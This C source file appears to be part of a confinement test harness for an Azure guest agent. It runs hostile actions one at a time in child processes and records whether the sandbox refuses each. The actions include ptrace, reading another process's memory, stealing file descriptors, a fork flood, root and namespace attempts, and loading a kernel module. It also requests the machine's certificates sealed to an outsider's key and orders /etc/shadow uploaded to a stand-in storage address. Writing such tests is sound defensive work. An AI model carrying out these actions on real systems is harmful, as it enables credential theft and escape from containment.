// What a stolen program tries: how, and with what outcome. The list is in acts.h.
#include "stolen.h"
#include <arpa/inet.h>
#include <linux/futex.h>
#include <sched.h>
#include <signal.h>
#include <sys/mman.h>
#include <sys/mount.h>
#include <sys/ptrace.h>
#include <sys/syscall.h>
#include <sys/time.h>

static pid_t victim;
static const char *trying = "";

static int opens(const char *path, int flags) {
    int fd = open(path, flags | O_CLOEXEC | O_NONBLOCK | O_NOCTTY, 0600);
    if (fd >= 0) close(fd);
    return fd;
}

static int reads(const char *path) { return opens(path, O_RDONLY); }
static int writes(const char *path) { return opens(path, O_WRONLY | O_APPEND); }

// Makes a file of this name, and removes it.
static int creates(const char *path) {
    int fd = opens(path, O_WRONLY | O_CREAT | O_EXCL);
    return fd < 0 ? fd : unlink(path);
}

// To send a byte is what counts with UDP. Silence is an answer, too: SIGALRM.
static int reaches(int type, const char *where) {
    char address[64];
    int port;
    if (sscanf(where, "%63[^:]:%d", address, &port) != 2) return with_errno(-1, EINVAL);
    int fd = socket(AF_INET, type | SOCK_CLOEXEC, 0);
    if (fd < 0) return fd;
    alarm(3);
    struct sockaddr_in at = {.sin_family = AF_INET, .sin_port = htons(port)};
    inet_pton(AF_INET, address, &at.sin_addr);
    if (connect(fd, (struct sockaddr *)&at, sizeof at) < 0) return -1;
    return type == SOCK_DGRAM && send(fd, "x", 1, 0) < 0 ? -1 : fd;
}
// Refused by a peer that isn't there is allowed by all layers.
static int connects(const char *where) {
    int fd = reaches(SOCK_STREAM, where);
    return fd < 0 && errno == ECONNREFUSED ? 0 : fd;
}
static int sends(const char *where) { return reaches(SOCK_DGRAM, where); }

// The machine's keys, sealed for somebody else.
static int asks_with_own_certificate(const char *unused) {
    (void)unused;
    char text[4 * LINE];
    int fd = reaches(SOCK_STREAM, "168.63.129.16:80");
    if (fd < 0) return fd;
    alarm(15);
    int length = snprintf(text, sizeof text,
        "GET %s HTTP/1.1\r\nHost: 168.63.129.16\r\nx-ms-version: 2012-11-30\r\nx-ms-agent-name: x\r\n"
        "x-ms-guest-agent-public-x509-cert: %s\r\nConnection: close\r\n\r\n",
        told("STOLEN_CERTIFICATES"), told("STOLEN_CERTIFICATE"));
    if (send(fd, text, length, MSG_NOSIGNAL) != length || recv(fd, text, 12, MSG_WAITALL) != 12) return -1;
    return memcmp(text, "HTTP/1.1 200", 12) ? with_errno(-1, EBADMSG) : 0;
}

static int connects_local(const char *path) {
    struct sockaddr_un at = {.sun_family = AF_UNIX};
    strncpy(at.sun_path, path, sizeof at.sun_path - 1);
    int fd = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
    if (fd < 0) return fd;
    int result = connect(fd, (struct sockaddr *)&at, sizeof at), why = errno;
    close(fd);
    return with_errno(result, why);
}


// The gate's word: yes, where the platform's answer follows; what it says of a request that it refuses is noted.
static int hears_gate(int fd) {
    char said[1024];
    ssize_t length = recv(fd, said, sizeof said - 1, 0);
    if (length <= 0) return with_errno(-1, length ? errno : ECONNRESET);
    said[length] = 0;
    switch (said[0]) {
    case 'c':
        if (length == 1) length = recv(fd, said, sizeof said, 0);
        return length > 0 ? 0 : with_errno(-1, ECONNRESET);
    case 'd':
        printf("why %s %s", trying, said + 1);
        return with_errno(-1, BY_GATE);
    case 'r': return with_errno(-1, ECONNREFUSED);
    case 't': return with_errno(-1, ETIMEDOUT);
    default: return with_errno(-1, EPERM);
    }
}

static int reaches_gate(int type) {
    struct sockaddr_un at = {.sun_family = AF_UNIX, .sun_path = "/run/waagent/gate/gate.sock"};
    int fd = socket(AF_UNIX, type | SOCK_CLOEXEC, 0);
    if (fd < 0) return fd;
    alarm(20);
    if (connect(fd, (struct sockaddr *)&at, sizeof at) == 0) return fd;
    int why = errno;
    close(fd);
    return with_errno(-1, why);
}

// \1 stands for a NUL, \2 for 17 KiB of a letter, \3 for 17 KiB of brackets.
static size_t expand(const char *text, char *bytes) {
    size_t length = 0;
    for (; *text; text++) {
        size_t many = *text == 2 || *text == 3 ? 17 << 10 : 1;
        memset(bytes + length, *text == 1 ? 0 : *text == 2 ? 'a' : *text == 3 ? '[' : *text, many);
        length += many;
    }
    return length;
}
static char bytes[1 << 16];

// Sends these bytes to the gate, in one write.
static int asks_gate(const char *request) {
    size_t length = expand(request, bytes);
    int fd = reaches_gate(SOCK_STREAM);
    if (fd < 0) return fd;
    // It may refuse before all is written.
    send(fd, bytes, length, MSG_NOSIGNAL);
    return hears_gate(fd);
}

static int reaches_transfer(void) {
    struct sockaddr_un at = {.sun_family = AF_UNIX, .sun_path = "/run/waagent/transfer/transfer.sock"};
    int fd = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
    alarm(40);
    return fd < 0 || connect(fd, (struct sockaddr *)&at, sizeof at) < 0 ? -1 : fd;
}

// Has waagent-transfer carry out this order: yes, where storage's answer follows.
static int orders(const char *text) {
    uint32_t length = expand(text, bytes + 4), prefix = htonl(length);
    memcpy(bytes, &prefix, sizeof prefix);
    int fd = reaches_transfer();
    if (fd < 0) return fd;
    send(fd, bytes, length + 4, MSG_NOSIGNAL);
    ssize_t got = recv(fd, &prefix, sizeof prefix, MSG_WAITALL);
    if (got != sizeof prefix) return with_errno(-1, got < 0 ? errno : EPIPE);
    length = ntohl(prefix) < sizeof bytes ? ntohl(prefix) : sizeof bytes - 1;
    got = recv(fd, bytes, length, MSG_WAITALL);
    bytes[got > 0 ? got : 0] = 0;
    if (strstr(bytes, "\"head\"")) return 0;
    printf("why %s %s\n", trying, bytes);
    return with_errno(-1, strstr(bytes, "\"refused\"") ? BY_TRANSFER : strstr(bytes, "\"tls\"") ? EPROTO : ECONNREFUSED);
}
// Of this many bytes it says, and sends none.
static int orders_of_4_gib(const char *unused) {
    (void)unused;
    int fd = reaches_transfer();
    if (fd < 0) return fd;
    send(fd, "\377\377\377\377", 4, MSG_NOSIGNAL);
    ssize_t got = recv(fd, bytes, sizeof bytes - 1, 0);
    return got > 4 && memmem(bytes, got, "\"refused\"", 9) ? with_errno(-1, BY_TRANSFER) : 0;
}
// A hundred callers who say half a word each, and go: the next one is served.
static int floods(const char *text) {
    int fds[100];
    for (int i = 0; i < 100; i++) {
        fds[i] = reaches_transfer();
        if (fds[i] < 0) return -1;
        send(fds[i], "\0\0\1", 3, MSG_NOSIGNAL);
    }
    for (int i = 0; i < 100; i++) close(fds[i]);
    return orders(text);
}

// What the gate gave before it read requests: a connected socket for a byte.
static int asks_for_connection(const char *target) {
    int fd = reaches_gate(SOCK_SEQPACKET);
    if (fd < 0) fd = reaches_gate(SOCK_STREAM);
    if (fd < 0) return fd;
    char byte = 0, control[CMSG_SPACE(sizeof(int))];
    struct iovec part = {&byte, 1};
    struct msghdr message = {
        .msg_iov = &part, .msg_iovlen = 1, .msg_control = control, .msg_controllen = sizeof control};
    int result = send(fd, target, strlen(target), MSG_NOSIGNAL);
    if (result >= 0) result = recvmsg(fd, &message, 0);
    int why = result < 0 ? errno : EPROTO;
    struct cmsghdr *header = result > 0 ? CMSG_FIRSTHDR(&message) : NULL;
    if (header) close(*(int *)CMSG_DATA(header));
    close(fd);
    return with_errno(header ? 0 : -1, why);
}

static int sockets(int family, int type, int protocol) {
    int fd = socket(family, type | SOCK_CLOEXEC, protocol);
    if (fd >= 0) close(fd);
    return fd;
}
static int raw_socket(const char *unused) { (void)unused; return sockets(AF_INET, SOCK_RAW, IPPROTO_ICMP); }
static int packet_socket(const char *unused) { (void)unused; return sockets(AF_PACKET, SOCK_RAW, 0); }
static int route_socket(const char *unused) { (void)unused; return sockets(AF_NETLINK, SOCK_RAW, 0); }
static int vsock_socket(const char *unused) { (void)unused; return sockets(AF_VSOCK, SOCK_STREAM, 0); }
static int netfilter_socket(const char *unused) { (void)unused; return sockets(AF_NETLINK, SOCK_RAW, 12); }

static int listens(const char *unused) {
    (void)unused;
    int fd = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
    if (fd < 0) return fd;
    struct sockaddr_in at = {.sin_family = AF_INET, .sin_port = htons(31337)};
    int result = bind(fd, (struct sockaddr *)&at, sizeof at);
    if (result == 0) result = listen(fd, 1);
    int why = errno;
    close(fd);
    return with_errno(result, why);
}

// To go on: what it does anyhow.
static int signals(const char *unused) { (void)unused; return kill(victim, SIGCONT); }
static int traces(const char *unused) {
    (void)unused;
    long result = ptrace(PTRACE_SEIZE, victim, 0, 0);
    // What isn't stopped can't be detached from: the tracer's end does it, so it is tried in a child.
    return result < 0 ? -1 : 0;
}
static int reads_memory(const char *unused) {
    (void)unused;
    char path[64];
    snprintf(path, sizeof path, "/proc/%d/mem", victim);
    return reads(path);
}
static int takes_descriptor(const char *unused) {
    (void)unused;
    int process = syscall(SYS_pidfd_open, victim, 0);
    if (process < 0) return -1;
    int fd = syscall(SYS_pidfd_getfd, process, 0, 0), why = errno;
    if (fd >= 0) close(fd);
    close(process);
    return with_errno(fd, why);
}

// So many that a unit's bound is met: they end by themselves.
static int forks(const char *unused) {
    (void)unused;
    int made = 0, why = 0;
    for (; made < 300 && why == 0; made++) {
        pid_t child = fork();
        if (child < 0) why = errno;
        if (child != 0) continue;
        static int word;
        struct timespec limit = {.tv_sec = 3};
        syscall(SYS_futex, &word, FUTEX_WAIT, 0, &limit);
        _exit(0);
    }
    while (wait(NULL) > 0) {}
    return with_errno(why ? -1 : 0, why);
}

static int executes(const char *path) {
    int report[2];
    if (pipe2(report, O_CLOEXEC) < 0) return -1;
    pid_t child = fork();
    if (child < 0) return -1;
    if (child == 0) {
        execl(path, path, "-c", ":", (char *)NULL);
        int why = errno;
        if (write(report[1], &why, sizeof why) < 0) _exit(2);
        _exit(1);
    }
    close(report[1]);
    int why = 0;
    int failed = read(report[0], &why, sizeof why) == sizeof why;
    close(report[0]);
    waitpid(child, NULL, 0);
    return with_errno(failed ? -1 : 0, why);
}

static int becomes_root(const char *unused) { (void)unused; return setresuid(0, 0, 0); }
static int user_namespace(const char *unused) { (void)unused; return unshare(CLONE_NEWUSER); }
static int mounts(const char *unused) {
    (void)unused;
    // Private: what the twin can do isn't to reach the machine.
    if (unshare(CLONE_NEWNS) < 0 || mount(NULL, "/", NULL, MS_REC | MS_PRIVATE, NULL) < 0) return -1;
    return mount("tmpfs", "/mnt", "tmpfs", 0, NULL);
}
static int changes_root(const char *unused) { (void)unused; return chroot("/"); }
// Garbage: an image that may be loaded is refused for its format.
static int loads_module(const char *unused) {
    (void)unused;
    int result = syscall(SYS_init_module, "garbage", 7, "");
    return result < 0 && errno == ENOEXEC ? 0 : result;
}
static int makes_code(const char *unused) {
    (void)unused;
    void *page = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
    return page == MAP_FAILED ? -1 : mprotect(page, 4096, PROT_READ | PROT_EXEC);
}
static int makes_device(const char *path) {
    return mknod(path, S_IFBLK | 0600, 0x0801) < 0 ? -1 : unlink(path);
}
static int makes_pipe(const char *path) { return mkfifo(path, 0600) < 0 ? -1 : unlink(path); }
static int links(const char *to) {
    return symlink(to, FETCH "link") < 0 ? -1 : unlink(FETCH "link");
}
static int links_hard(const char *to) {
    return link(to, FETCH "hard") < 0 ? -1 : unlink(FETCH "hard");
}
static int removes_marker(const char *path) {
    // It must be there for the answer to mean something; whoever succeeds puts it back.
    if (rename(path, "/var/lib/waagent/.provisioned") < 0) return -1;
    return rename("/var/lib/waagent/.provisioned", path);
}
// To what it is.
static int changes_mode(const char *path) { return chmod(path, 0640) < 0 ? -1 : 0; }

// A request to the WireServer goes on with these.
#define HEAD " HTTP/1.1\r\nHost: 168.63.129.16\r\n"
#define OWN "x-ms-guest-agent-public-x509-cert: MIIBtHeirs==\r\n"
#define END "\r\n"
// An order, and one that asks for this URI alone.
#define ORDER(method, uri, headers, body, limit, seconds)                                                        \
    "{\"method\":\"" method "\",\"uri\":\"" uri "\",\"headers\":{" headers "},\"body\":" body ",\"limit\":" limit          \
    ",\"seconds\":" seconds "}"
#define ASK(uri) ORDER("GET", uri, "", "0", "4096", "10")
#define STORAGE "https://203.0.113.10/x"
#define WITH_FIELD "{\"file\":\"/etc/shadow\",\"method\":\"GET\",\"uri\":\"" STORAGE "\",\"headers\":{},\"body\":0,\"limit\":9,\"seconds\":9}"
struct act {
    const char *name;
    int (*act)(const char *);
    const char *on;
};
static const struct act acts[] = {
#include "acts.h"
};
static const struct act requests[] = {
#include "requests.h"
};

static const char *verdict(int status) {
    if (WIFSIGNALED(status)) return sigabbrev_np(WTERMSIG(status));
    switch (WEXITSTATUS(status)) {
    case 0: return "yes";
    case BY_GATE: return "gate";
    case BY_TRANSFER: return "transfer";
    default: return strerrorname_np(WEXITSTATUS(status));
    }
}

// Each in a child: some can't be taken back, some end it. A name with "@" stands for a path of the environment.
static void try(const struct act *acts, size_t count) {
    for (const struct act *act = acts; act < acts + count; act++) {
        trying = act->name;
        pid_t child = fork();
        if (child == 0) {
            int why = act->act(act->on[0] == '@' ? told(act->on + 1) : act->on) < 0 ? errno : 0;
            fflush(stdout);
            _exit(why);
        }
        int status = EAGAIN << 8;
        if (child > 0) waitpid(child, &status, 0);
        printf("act %s %s\n", act->name, verdict(status));
        fflush(stdout);
    }
}

void try_all(int with_requests) {
    victim = atoi(told("STOLEN_VICTIM"));
    try(acts, sizeof acts / sizeof *acts);
    if (with_requests) try(requests, sizeof requests / sizeof *requests);
    puts("acts done");
    fflush(stdout);
}
